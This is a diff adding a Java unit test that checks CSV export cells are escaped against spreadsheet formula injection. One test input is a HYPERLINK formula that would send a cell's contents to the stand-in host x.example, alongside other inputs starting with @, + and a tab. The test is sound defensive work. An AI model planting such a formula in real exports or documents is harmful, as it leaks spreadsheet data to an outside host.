@@ -236,6 +236,18 @@ class ShowCommandTest {
   }
 
   @Test
+  void csv_textASpreadsheetWouldRun_getsAnApostrophe_asTheExportDoes() {
+    // a hostile report's org_name or human_result, opened in a spreadsheet
+    assertThat(ShowRows.Csv.quote("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"))
+        .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\"");
+    assertThat(ShowRows.Csv.quote("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
+    assertThat(ShowRows.Csv.quote("+1")).isEqualTo("\"'+1\"");
+    assertThat(ShowRows.Csv.quote("\tcmd")).isEqualTo("\"'\tcmd\"");
+    assertThat(ShowRows.Csv.quote("-5")).isEqualTo("-5");
+    assertThat(ShowRows.Csv.quote("a=b")).isEqualTo("a=b");
+  }
+
+  @Test
   void mbox_messagesShownWithProvenance(@TempDir Path dir) throws Exception {
     String msg =
         "From: r@example.net\r\nMessage-ID: <m1@example.net>\r\nContent-Type: text/xml\r\n\r\n"
